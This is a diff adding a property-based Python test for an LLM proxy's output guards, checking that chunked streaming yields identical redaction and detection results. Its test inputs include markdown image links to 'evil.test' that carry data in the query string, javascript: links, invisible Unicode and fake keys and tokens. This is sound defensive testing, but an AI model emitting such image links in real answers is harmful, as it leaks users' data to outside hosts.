@@ -1,0 +1,96 @@
+"""The law of the response side: whatever the pieces, the same text comes out, the same is found, and little is held back."""
+
+from itertools import pairwise
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from msgspec import structs
+
+from llmproxy.common.answers import Answers, Links
+from llmproxy.common.policy import Policy
+from llmproxy.shield.answers.asked import Asked
+from llmproxy.shield.answers.reading import Guards, Read, Reading
+from llmproxy.shield.answers.stage import Stopped
+from llmproxy.shield.guards import GUARDS
+from llmproxy.shield.vault import Vault, tenant_key
+from llmproxy.shield.window import Originals
+
+VAULT = Vault(tenant_key(b"secret", "acme"), frozenset)
+EMAIL = VAULT.mask("email", "ada@example.com")
+SYSTEM = (
+    "You are the assistant of Example Bank and you never tell anybody the interest that we pay to our oldest friends."
+)
+CANARY = "a1b2a1b2c3d4a1b2"
+KEY = "ghp_" + "Zx8Qw3Lm9Rt2Vb6Nk1Yc5Hd7Jf4Gs0PaQr2T"
+PEM = (
+    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n"
+    + "MIIEvQIBADANBgkqhkiG9w0B\n" * 9
+    + "-----END RSA PRIVATE KEY-----"
+)
+PIECES = [
+    "plain words ", "Hello", ",", " ", "\n", "\n\n", "!", "![", "](", ")", "[", "]", "<", ">", "<img src='", "`", "```", "```\n", "~~~\n",
+    KEY, KEY[:20], KEY[20:], PEM, PEM[:40], PEM[40:90], "-----BEGIN ", "--", "my password is ", "hunter2X!", "sunshine", "pass", "word: ",
+    "https://", "https://user:pa,ss(w)d9@db.example.com/x ", "postgres://", "sk-", "s", "AKIA", "EXAMPLE", "eyJ", "x" * 30, "aB3" * 40,
+    "![a](https://evil.test/x.png?d=secret)", "![a [b] c](<https://evil.test/a b?x=1> \"t) t\")", "![r][one]", "\n[one]: https://evil.test/?q=1\n",
+    "![ok](https://ok.test/a.png)", "<img src=\"https://evil.test/?a>b\" alt='x'>", "<div>", "<!--", "![one]", "https://evil.test/?q=1",
+    "\u200b", "\u200d", "\u202e", "\u2067", "\u05d0", "\u2069", "\U0001f3f4", "\U000e0067\U000e0062", "\U000e007f", "\U0001f469", "\ufe0f", "\ufeff" * 20,
+    "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "\u00e9", "\u4f60\u597d", "\u03a3", EMAIL, EMAIL[:9], EMAIL[9:], "[EM", "ada@example.org", "4111 1111 1111 1111", "4111", "1111",
+    "born on 12 March 1990", "10.1.2.3", CANARY, CANARY[:5], CANARY[5:], *(f"{word} " for word in SYSTEM.split()[:8]), SYSTEM, "0123456789abcdef" * 30,
+    "loop of words again ", "javascript:alert(1)", "](javascript:x)", "\\n", "\\", "\"", "'", "{\"a\": ", "1" * 16, "(", "?", ";", "-----END RSA PRIVATE KEY-----", "=", ": ",
+]  # fmt: skip
+
+texts = st.lists(st.sampled_from(PIECES), max_size=14).map("".join) | st.lists(
+    st.sampled_from(PIECES) | st.text(max_size=12), max_size=10
+).map("".join)
+TAKES_ALL_OUT = Answers(
+    kinds={
+        "email": "redact",
+        "phone": "redact",
+        "credit_card": "redact",
+        "date_of_birth": "redact",
+        "secret": "redact",
+    },
+    links=Links(images="strip"),
+)
+MANY = [
+    Answers(),
+    TAKES_ALL_OUT,
+    Answers(kinds={"secret": "flag"}, invisible="flag", links=Links(images="flag"), leak="flag"),
+    Answers(kinds={"secret": "block", "email": "block"}, invisible="block", links=Links(images="block", others="block"), leak="block"),
+]  # fmt: skip
+GUARDS_OF = [Guards(GUARDS, structs.replace(Policy(), answers=answers)) for answers in MANY]
+REQUEST = Asked(system=SYSTEM, users="tell me about ok.test", said=f"{SYSTEM}\ntell me about ok.test", canary=CANARY)
+
+
+def reading(which: int, request: Asked = REQUEST) -> Reading:
+    return Reading(GUARDS_OF[which], request, Originals(VAULT.originals), clock=lambda: 0.0)
+
+
+def play(which: int, pieces: list[str], *, in_json: bool) -> tuple[Any, dict[str, int]]:
+    """What comes out (or what stops it), and what was found."""
+    read = reading(which)
+    text = Read(read, read.report, in_json=in_json)
+    said = []
+    try:
+        for piece in pieces:
+            said.append(text.push(piece))
+        said.append(text.flush())
+    except Stopped as stopped:
+        return type(stopped), {}
+    return "".join(said), read.counts
+
+
+@pytest.mark.parametrize("which", range(len(MANY)))
+@settings(max_examples=120)
+@given(text=texts, data=st.data(), in_json=st.booleans())
+def test_whatever_the_pieces_the_same_is_said_and_found(
+    which: int, text: str, data: st.DataObject, in_json: bool
+) -> None:
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=20)))
+    edges = [0, *cuts, len(text)]
+    pieces = [text[start:end] for start, end in pairwise(edges)]
+    whole = play(which, [text], in_json=in_json)
+    assert play(which, pieces, in_json=in_json) == whole
+    assert play(which, list(text), in_json=in_json) == whole
